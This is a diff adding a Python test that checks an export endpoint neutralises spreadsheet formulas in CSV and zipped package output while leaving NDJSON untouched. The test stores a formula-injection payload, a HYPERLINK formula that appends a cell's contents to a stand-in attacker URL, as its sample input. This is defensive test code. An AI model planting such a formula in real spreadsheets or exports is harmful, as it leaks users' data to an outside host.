@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import contextlib
+import io
 import datetime as dt
 import sqlite3
+import zipfile
 from typing import Any
 
 import orjson
@@ -78,3 +80,23 @@ async def test_scoped_items_are_never_read_for_subjects_outside_the_grant(served
     assert reading_address, statements
     keys = {str(p) for params in reading_address for p in params if isinstance(p, str) and len(p) == 18}
     assert keys == {row["uscc"] for row in rows}
+
+
+async def test_csv_formula_cells_from_the_source_are_neutralised_ndjson_unchanged(served, tmp_path):
+    """A value stored as a formula reaches an Excel user's CSV (bom=1) as text, in a plain CSV
+    and inside a package's data.csv; NDJSON gives it as stored."""
+    client, gateway, _ = served
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    with contextlib.closing(sqlite3.connect(tmp_path / "amr.db")) as db, db:
+        (first,) = db.execute("SELECT min(uscc) FROM enterprise").fetchone()
+        db.execute("UPDATE enterprise SET ent_name = ? WHERE uscc = ?", (formula, first))
+    ask = lambda **p: client.get(  # noqa: E731
+        f"/export/{AMR}", params={"items": "name", "limit": "1", **p}, headers=headers(gateway, "f")
+    )
+    plain = (await ask(format="csv", bom="1")).content.decode("utf-8-sig")
+    quoted = "'" + formula.replace('"', '""')  # RFC 4180 section 2.7: a quote doubled
+    assert plain.splitlines()[1] == f'{first},"{quoted}"'
+    package = (await ask(format="package", data="csv", bom="1")).content
+    with zipfile.ZipFile(io.BytesIO(package)) as archive:
+        assert archive.read("data.csv").decode("utf-8-sig") == plain
+    assert orjson.loads((await ask()).content) == {"uscc": first, "name": formula}
